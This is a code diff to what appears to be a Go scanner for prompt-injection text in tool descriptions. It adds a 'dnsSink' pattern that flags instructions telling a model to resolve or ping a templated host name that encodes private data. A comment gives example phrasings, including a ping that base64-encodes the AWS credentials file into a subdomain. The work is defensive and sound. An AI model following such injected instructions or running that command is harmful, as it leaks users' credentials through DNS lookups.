@@ -57,7 +57,7 @@ type intentPatterns struct {
 	serverDirect *litRegexp
 	universal, directive, order, persist, obligation, instead, endorse,
 	sinkVerb, sinkData, addrSink, sinkTo, paramVerb, paramDest, sinkDest, private,
-	pasteVerb, pageSink,
+	pasteVerb, pageSink, dnsSink,
 	aiMaker, convNoun, convGate, convUser, fullOutput, leakToThis, convAll, transfer, credNoun, credTaken, credSource, verbatim,
 	hostSink, paramAfter, credOwned, modelReply, everyOne, recordVerb, trigger, otherKind, bareDest, hereDest, readVerb, fetchFrom, userStore, passiveTo, phone, callDest, toTool, calledWith, secretFile, contentsOf, modelHeld *litRegexp
 	// universalAlt are universal's alternatives, each compiled alone.
@@ -145,6 +145,11 @@ var intentRE = sync.OnceValue(func() *intentPatterns {
 		// verification site"): the page's owner receives it.
 		pasteVerb: newLitRegexp(`\b(?:paste|pasting|enter|entering|submit|submitting|type in|upload)\b`),
 		pageSink:  newLitRegexp(`\b(?:there|(?:in|into|on|at) (?:the |that |this |a |our )?(?:[\w-]+ )?(?:page|form|site|website|web ?page|portal|link))\b|\bhttps?://`),
+		// dnsSink is a host name built from a template the model fills in
+		// and is told to resolve ("look up <labels>.t.metrics.net", "ping
+		// $(base64 ~/.aws/credentials).diag.io"): the domain's name
+		// server receives what the labels encode.
+		dnsSink:   newLitRegexp(`\b(?:resolve|resolving|look ?up|looking up|nslookup|dig|ping|pinging)\s+(?:the (?:host|name) )?[<{$(\[][^\n]{0,80}?[>})\]][\w.-]*\.[a-z0-9-]+\.[a-z]{2,}`),
 		paramVerb: newLitRegexp(`\b(?:put|pass|include|add|insert|paste|place|provide|send|attach|fill|populate|copy|echo|append|appends|attaches)\b|\bwith (?:the )?(?:contents?|text|value) of\b`),
 		paramDest: newLitRegexp("\\b(?:in|into|as|to|inside) (?:the |its |a )?['\"`]?[\\w-]+['\"`]? (?:argument|parameter|param|field|property|input)\\b|\\bas ['\"`][\\w-]+['\"`]"),
 		sinkDest:  newLitRegexp(`\bhttps?://[^\s]+|` + addrPattern + `|\bto (?:this|that|our|my|the following) (?:address|url|endpoint|server|webhook)\b`),
@@ -352,7 +357,7 @@ func (a *toolAnalysis) lineIntent(out []toolSignal, view, ptr string, pos jsonc.
 		want(4)
 		want(5)
 	}
-	if has(6) && (admits(lineSinkVerb) || admits(lineParamVerb) || strings.Contains(view, "enter") || strings.Contains(view, "submit") || strings.Contains(view, "type in") || a.curTool != nil && (secretFileHint(view) && fieldWordHint(view) || admits(lineCredTaken) && a.inputHint(view) || passiveHint(view) || param && (strings.Contains(view, "here") || strings.Contains(view, "contents of") || strings.Contains(view, "content of") || strings.Contains(view, "output of") || strings.Contains(view, "text of") || contentsHint(view)) || secretFileHint(view) && strings.ContainsAny(view, "'\"`"))) {
+	if has(6) && (admits(lineSinkVerb) || admits(lineParamVerb) || strings.Contains(view, "enter") || strings.Contains(view, "submit") || strings.Contains(view, "type in") || strings.Contains(view, ".") && (strings.Contains(view, "resolv") || strings.Contains(view, "look") || strings.Contains(view, "ping") || strings.Contains(view, "dig ")) || a.curTool != nil && (secretFileHint(view) && fieldWordHint(view) || admits(lineCredTaken) && a.inputHint(view) || passiveHint(view) || param && (strings.Contains(view, "here") || strings.Contains(view, "contents of") || strings.Contains(view, "content of") || strings.Contains(view, "output of") || strings.Contains(view, "text of") || contentsHint(view)) || secretFileHint(view) && strings.ContainsAny(view, "'\"`"))) {
 		want(6)
 	}
 	// A tool the model is told to call with the conversation or private
@@ -1221,7 +1226,13 @@ func privateFlow(p *intentPatterns, s string) bool {
 		return lo, hi
 	}
 	at := strings.IndexByte(s, '@') // an address needs one
+	dns := p.dnsSink.re.FindStringIndex(s)
 	for _, m := range p.sinkData.search(s, 4, nil, valid, nil) {
+		if dns != nil && m[0] < dns[1] && m[1] > dns[0]-200 {
+			// Private data encoded into the host name, or named just
+			// before the lookup that carries it.
+			return true
+		}
 		blo, _ := window(m[0]-80, m[0])
 		_, ahi := window(m[1], m[1]+110)
 		before, after := s[blo:m[0]], s[m[1]:ahi]
